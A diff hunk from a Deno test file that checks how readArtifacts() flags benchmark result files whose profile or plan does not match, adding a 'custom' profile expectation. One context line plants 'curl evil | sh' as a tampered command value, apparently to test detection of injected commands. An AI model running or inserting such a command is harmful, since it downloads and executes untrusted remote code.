@@ -115,7 +115,10 @@ Deno.test("readArtifacts() lets no result decide for the others of its run wheth
     `${cannot} it has the settings of an article, expected the profile's`,
   ]);
   assertEquals(await problemOf(textOf("swift", ({ plan }) => plan.profile = "quick")), [
-    `${cannot} it was measured with the profile quick, expected ${measured.profile}`,
+    `${cannot} it was measured with the profile quick, expected custom`,
+  ]);
+  assertEquals(await problemOf(textOf("swift", ({ plan }) => plan.startupRuns = 1)), [
+    `${cannot} its plan differs from that of the profile custom in "jwt-mysql"`,
   ]);
   const written = textOf("swift").replace(/"command":"[^"]+"/, '"command":"curl evil | sh"');
   assertMatch(
